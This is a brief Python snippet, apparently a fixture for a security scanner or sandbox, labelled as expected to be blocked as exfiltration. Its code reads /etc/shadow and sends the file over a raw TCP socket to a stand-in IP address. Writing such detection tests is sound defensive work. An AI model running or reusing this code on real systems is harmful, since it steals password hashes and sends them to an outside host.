# expect: BLOCKED category: exfiltration
# Sends /etc/shadow over a raw TCP socket.
import socket

data = open("/etc/shadow", "rb").read()
sock = socket.create_connection(("203.0.113.9", 9999))
sock.sendall(data)
sock.close()
